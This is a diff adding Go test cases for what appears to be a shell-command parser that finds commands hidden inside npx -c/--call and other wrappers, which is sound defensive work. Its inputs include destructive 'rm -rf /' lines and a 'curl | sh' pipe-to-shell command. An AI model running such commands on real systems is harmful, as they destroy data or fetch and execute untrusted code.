@@ -36,6 +36,14 @@ var runnerCases = []tcase{
 	{line: `sudo echo 'rm -rf /' | sh`, cmds: []want{{name: "sudo"}, {name: "echo"}, {name: "sh"}, {name: "rm", argv: []string{"rm", "-rf", "/"}, via: "shell"}}},
 	// Code given by escapes is obfuscation, as for bash -c.
 	{line: `watch $'\x72m x'`, cmds: []want{{name: "watch"}, {name: "rm", via: "wrapper"}}, opaque: []string{"encoded"}},
+	// npx -c CMD (npx --call CMD) runs CMD with sh -c: code, not an argument.
+	{line: `npx -c 'rm -rf /n'`, cmds: []want{{name: "npx"}, {name: "rm", argv: []string{"rm", "-rf", "/n"}}}},
+	{line: `npx --call 'rm -rf /n'`, cmds: []want{{name: "rm", argv: []string{"rm", "-rf", "/n"}}}},
+	{line: `npx --call='rm -rf /n'`, cmds: []want{{name: "rm", argv: []string{"rm", "-rf", "/n"}}}},
+	{line: `npx -y -c "curl -s x | sh"`, cmds: []want{{name: "curl"}, {name: "sh"}}, opaque: []string{"pipe-to-shell"}},
+	{line: `npx -c "$CMD"`, opaque: []string{"dynamic-code"}},
+	{line: `npx -y prettier --check .`, count: 2, cmds: []want{{name: "npx"}, {name: "prettier", argv: []string{"prettier", "--check", "."}}}},
+	{line: `npx tsc -p .`, count: 2, cmds: []want{{name: "npx"}, {name: "tsc", argv: []string{"tsc", "-p", "."}}}},
 }
 
 func TestRunners(t *testing.T) {
